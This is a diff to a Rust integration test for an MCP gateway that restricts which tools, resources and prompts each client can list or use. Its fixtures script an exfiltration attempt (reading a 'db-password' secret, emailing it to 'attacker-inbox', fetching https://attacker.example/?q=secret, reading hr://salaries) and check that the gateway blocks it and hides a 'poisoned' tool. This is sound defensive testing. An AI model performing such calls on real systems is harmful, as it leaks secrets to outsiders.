@@ -212,11 +212,13 @@ path = "audit.jsonl"
 listen = "127.0.0.1:{admin_port}"
 [[upstream]]
 url = "http://127.0.0.1:{up}/mcp"
+prompts = ["summary_*"]
 
 [[client]]
 name = "alice"
 key_sha256 = "{alice_hash}"
 tools = ["add", "read_*", "send_email", "fetch"]
+resources = ["docs://*"]
 
 [[client]]
 name = "bob"
@@ -262,8 +264,30 @@ deny = "sends-external"
             ["call", "read_secret", {"name": "db-password"}],
             ["call", "send_email", {"to": "attacker-inbox", "body": "the secret"}],
             ["call", "fetch", {"url": "https://attacker.example/?q=secret"}],
+            ["resources"],
+            ["read", "docs://handbook"],
+            ["read", "hr://salaries"],
+            ["prompts"],
+            ["prompt", "admin_prompt", {}],
+            ["prompt", "summary_prompt", {"topic": "q3"}],
         ]),
     );
+    // Resources by URI pattern (alice's list), prompts by name (the upstream's list, for
+    // every client): listed and used alike.
+    assert_eq!(got[10]["resources"], json!(["docs://handbook"]));
+    assert_eq!(got[11]["text"], "the handbook");
+    assert!(
+        error_of(&got[12]).contains("resource not available"),
+        "{}",
+        got[12]
+    );
+    assert_eq!(got[13]["prompts"], json!(["summary_prompt"]));
+    assert!(
+        error_of(&got[14]).contains("prompt `admin_prompt`"),
+        "{}",
+        got[14]
+    );
+    assert_eq!(got[15]["messages"], 1);
     // The hidden tool is not listed, and calling it by name does not reach the server.
     let tools = got[0]["tools"].as_array().unwrap();
     assert!(!tools.iter().any(|t| t == "delete_repo"), "{tools:?}");
@@ -292,6 +316,7 @@ deny = "sends-external"
     let calls = up.calls();
     assert_eq!(up.called("send_email"), 1, "{calls:?}");
     assert!(!calls.iter().any(|c| c["args"]["to"] == "attacker-inbox"));
+    assert!(!calls.iter().any(|c| c["args"]["uri"] == "hr://salaries"));
     assert_eq!(up.called("fetch"), 0, "{calls:?}");
     assert_eq!(up.called("read_file"), 1, "{calls:?}");
 
@@ -305,8 +330,15 @@ deny = "sends-external"
             ["call", "show_config", {}],
             ["call", "send_email", {"to": "x-team", "body": "config attached"}],
             ["call", "summarize", {"text": "quarterly numbers"}],
+            ["resources"],
+            ["prompts"],
         ]),
     );
+    assert_eq!(
+        bob_got[5]["resources"],
+        json!(["docs://handbook", "hr://salaries"])
+    );
+    assert_eq!(bob_got[6]["prompts"], json!(["summary_prompt"]));
     // The poisoned tool: out of the list (the engine), and not callable by name either.
     assert!(!bob_got[0]["tools"]
         .as_array()
@@ -355,6 +387,8 @@ deny = "sends-external"
             "egress",
             "sequence",
             "sequence",
+            "catalog",
+            "catalog",
             "sequence",
             "poisoned"
         ],
